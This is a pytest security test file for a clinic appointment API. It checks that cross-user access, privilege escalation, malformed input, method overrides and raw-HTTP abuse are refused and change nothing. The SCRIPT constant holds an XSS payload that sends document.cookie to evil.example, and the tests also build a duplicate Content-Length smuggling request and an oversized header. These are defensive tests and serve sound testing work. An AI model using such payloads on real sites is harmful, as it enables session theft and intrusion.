"""What was done to others, tried on a running server: refused, and nothing is changed.

The application's own tests try many more values in `backend/tests/api/test_bad_input.py`.
"""

import json
import socket
from collections.abc import Callable, Iterator
from contextlib import ExitStack, closing
from typing import Any, NamedTuple

import httpx2
import pytest
from sqlalchemy import select

from app.core.database import open_url
from app.db.columns import Base
from app.db.database import Database
from tests.faults.clinic import DAY, PASSWORD, Person, Slot, open_doctor
from tests.faults.conftest import new_database
from tests.faults.servers import Server, serving

NOTES = {"audit_log", "audit_seals", "job_runs", "attempts", "sessions"}
SAFE = {"get", "head", "options"}
OVERRIDES = ("X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override")
JSON = {"Content-Type": "application/json"}
SCRIPT = "<script>fetch('//evil.example/' + document.cookie)</script>"

Rows = dict[str, list[Any]]


class Clinic(NamedTuple):
    """A running server, a victim with an appointment, and somebody who wants it."""

    server: Server
    database: Database
    doctor: Person
    victim: Person
    attacker: Person
    other_doctor: Person
    appointment: int
    hours: int

    def rows(self) -> Rows:
        """Everything but the notes on who asked and who was refused."""
        with self.database.reading() as session:
            return {
                table.name: list(session.execute(select(table).order_by(*table.primary_key)))
                for table in Base.metadata.sorted_tables
                if table.name not in NOTES
            }


@pytest.fixture(scope="module", params=["sqlite", "postgresql"])
def clinic(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Clinic]:
    folder = tmp_path_factory.mktemp("attacked")
    url = new_database(request.param, request, folder)
    with ExitStack() as stack:
        server = stack.enter_context(serving(url, folder))
        doctor, other_doctor = (
            stack.enter_context(closing(open_doctor(server.address))) for _ in range(2)
        )
        victim, attacker = (stack.enter_context(closing(Person(server.address))) for _ in range(2))
        yield Clinic(
            server=server,
            database=stack.enter_context(closing(open_url(url))),
            doctor=doctor,
            victim=victim,
            attacker=attacker,
            other_doctor=other_doctor,
            appointment=int(victim.book(Slot(doctor.id, 600)).json()["id"]),
            hours=int(doctor.client.get("/schedules/my").json()[0]["id"]),
        )


def refusal(answer: httpx2.Response) -> tuple[int, str]:
    assert answer.headers["content-type"] == "application/problem+json"
    return answer.status_code, str(answer.json()["code"])


def registration(**changed: Any) -> dict[str, Any]:
    return {
        "username": "newcomer",
        "email": "newcomer@example.com",
        "full_name": "New Comer",
        "password": PASSWORD,
        "role": "patient",
        **changed,
    }


def booking(clinic: Clinic, **changed: Any) -> dict[str, Any]:
    return {**Slot(clinic.doctor.id, 700).as_request(), **changed}


def send(person: Person, method: str, path: str, body: object) -> httpx2.Response:
    """Send JSON as Python writes it, with `NaN` and lone surrogates."""
    return person.client.request(method, path, content=json.dumps(body), headers=JSON)


Attack = Callable[[Clinic], httpx2.Response]
NOT_FOUND, INVALID = (404, "not_found"), (422, "invalid_input")
FORBIDDEN = (403, "forbidden")
ATTACKS: dict[str, tuple[Attack, tuple[int, str]]] = {
    "another's appointment: read": (
        lambda c: c.attacker.client.get(f"/appointments/{c.appointment}"),
        NOT_FOUND,
    ),
    "another's appointment: cancelled": (
        lambda c: c.attacker.client.delete(f"/appointments/{c.appointment}"),
        NOT_FOUND,
    ),
    "another's appointment: moved": (
        lambda c: send(
            c.attacker,
            "PUT",
            f"/appointments/{c.appointment}",
            {"appointment_date": str(DAY), "appointment_time": "11:00"},
        ),
        NOT_FOUND,
    ),
    "another's appointment: completed by another doctor": (
        lambda c: send(
            c.other_doctor, "PUT", f"/appointments/{c.appointment}", {"status": "completed"}
        ),
        NOT_FOUND,
    ),
    "another doctor's hours: changed": (
        lambda c: send(c.other_doctor, "PUT", f"/schedules/{c.hours}", {"is_active": False}),
        NOT_FOUND,
    ),
    "another doctor's hours: deleted": (
        lambda c: c.other_doctor.client.delete(f"/schedules/{c.hours}"),
        NOT_FOUND,
    ),
    "another doctor's diary": (
        lambda c: c.other_doctor.client.get(
            f"/appointments/doctor/{c.doctor.id}", params={"appointment_date": str(DAY)}
        ),
        NOT_FOUND,
    ),
    "a patient whom the body names": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, patient_id=c.victim.id)),
        FORBIDDEN,
    ),
    "an id in the body": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, id=c.appointment)),
        INVALID,
    ),
    "an owner of hours in the body": (
        lambda c: send(
            c.other_doctor, "PUT", f"/schedules/{c.hours}", {"doctor_id": c.other_doctor.id}
        ),
        INVALID,
    ),
    "registered as admin": (
        lambda c: send(c.attacker, "POST", "/auth/register", registration(role="admin")),
        INVALID,
    ),
    "promoted by oneself": (
        lambda c: send(c.attacker, "PATCH", "/users/me", {"role": "admin"}),
        INVALID,
    ),
    "registered again in capitals": (
        lambda c: send(
            c.attacker, "POST", "/auth/register", registration(username=c.victim.name.upper())
        ),
        (409, "username_taken"),
    ),
    "registered again in full-width letters": (
        lambda c: send(
            c.attacker,
            "POST",
            "/auth/register",
            registration(username=c.victim.name.replace("p", "\uff50")),
        ),
        (409, "username_taken"),
    ),
    "registered again with the e-mail address in capitals": (
        lambda c: send(
            c.attacker,
            "POST",
            "/auth/register",
            registration(email=f"{c.victim.name}@EXAMPLE.com".upper()),
        ),
        (409, "email_taken"),
    ),
    "a slot of a billion minutes": (
        lambda c: send(c.doctor, "PUT", f"/schedules/{c.hours}", {"slot_duration": 10**9}),
        INVALID,
    ),
    "a page of a billion rows": (
        lambda c: c.attacker.client.get("/appointments/my", params={"limit": 10**9}),
        INVALID,
    ),
    "slots of a hundred years": (
        lambda c: c.attacker.client.get(
            f"/schedules/doctor/{c.doctor.id}/available-slots",
            params={"start_date": "2027-01-01", "end_date": "2126-12-31"},
        ),
        INVALID,
    ),
    "NaN": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, doctor_id=float("nan"))),
        INVALID,
    ),
    "a lone surrogate": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, reason="\ud800")),
        INVALID,
    ),
    "a NUL": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, reason="a\x00b")),
        INVALID,
    ),
    "a NUL in an address": (
        lambda c: c.attacker.client.get("/appointments/my", params={"date_from": "\x00"}),
        INVALID,
    ),
    '"false" for a boolean': (
        lambda c: send(c.doctor, "PUT", f"/schedules/{c.hours}", {"is_active": "false"}),
        INVALID,
    ),
    "false for a time of day": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, appointment_time=False)),
        INVALID,
    ),
    "a body over 64 KiB": (
        lambda c: send(c.attacker, "POST", "/appointments/", booking(c, reason="x" * 65_536)),
        (413, "body_too_large"),
    ),
    "a body over 64 KiB that does not tell its size": (
        lambda c: c.attacker.client.post(
            "/appointments/", content=(b" " * 1024 for _ in range(65)), headers=JSON
        ),
        (413, "body_too_large"),
    ),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_an_attack_is_refused_and_changes_nothing(clinic: Clinic, name: str) -> None:
    attack, expected = ATTACKS[name]
    before = clinic.rows()
    answer = attack(clinic)
    assert refusal(answer) == expected
    assert clinic.rows() == before


def routes(clinic: Clinic) -> list[tuple[str, set[str]]]:
    """Every path with its methods, from the OpenAPI document, with the victim's ids."""
    document = httpx2.get(f"{clinic.server.address}/openapi.json", trust_env=False).json()
    ids = {"appointment_id": clinic.appointment, "schedule_id": clinic.hours}
    return [
        (path.format_map({name: ids.get(name, clinic.doctor.id) for name in names(path)}), methods)
        for path, methods in ((path, set(item)) for path, item in document["paths"].items())
    ]


def names(path: str) -> list[str]:
    return [part.split("}")[0] for part in path.split("{")[1:]]


@pytest.mark.parametrize("override", OVERRIDES)
def test_no_get_changes_anything_whatever_method_it_claims(clinic: Clinic, override: str) -> None:
    before = clinic.rows()
    for person in (clinic.victim, clinic.doctor):
        for path, methods in routes(clinic):
            address = f"{clinic.server.address}{path}"
            for method in sorted(methods - SAFE):
                answer = person.client.get(
                    address, params={"_method": method}, headers={override: method.upper()}
                )
                if "get" not in methods:
                    assert refusal(answer) == (405, "method_not_allowed")
    assert clinic.rows() == before


def test_a_script_in_a_reason_is_text_and_never_a_page(clinic: Clinic) -> None:
    booked = send(clinic.victim, "POST", "/appointments/", booking(clinic, reason=SCRIPT))
    assert booked.status_code == 201
    answer = clinic.doctor.client.get(f"/appointments/{booked.json()['id']}")
    assert answer.json()["reason"] == SCRIPT
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-security-policy"].startswith("default-src 'none'")


def test_a_refused_password_is_not_repeated(clinic: Clinic) -> None:
    secret = "correct horse battery staple " * 40
    answer = send(clinic.attacker, "POST", "/auth/register", registration(password=secret))
    assert refusal(answer) == INVALID
    assert "correct horse" not in answer.text


def test_the_server_does_not_say_what_it_is(clinic: Clinic) -> None:
    answer = clinic.attacker.client.get("/users/doctors")
    assert [name for name in answer.headers if name in {"server", "x-powered-by", "via"}] == []


def raw_answer(server: Server, request: bytes) -> bytes:
    """The status line of the answer to these very bytes."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=30) as connection:
        for start in range(0, len(request), 4096):
            try:
                connection.sendall(request[start : start + 4096])
            except OSError:
                break  # the server has answered and closed
        return connection.recv(4096).partition(b"\r\n")[0]


def test_a_head_without_end_is_refused(clinic: Clinic) -> None:
    endless = b"GET /livez HTTP/1.1\r\nHost: clinic.example\r\nX-Huge: " + b"x" * 4_000_000
    assert raw_answer(clinic.server, endless) == b"HTTP/1.1 431 Request Header Fields Too Large"


def test_what_is_no_http_is_refused(clinic: Clinic) -> None:
    assert raw_answer(clinic.server, b"\x16\x03\x01\x02\x00\x01\r\n\r\n") == (
        b"HTTP/1.1 400 Bad Request"
    )
    smuggled = b"POST /livez HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n"
    assert raw_answer(clinic.server, smuggled) == b"HTTP/1.1 400 Bad Request"
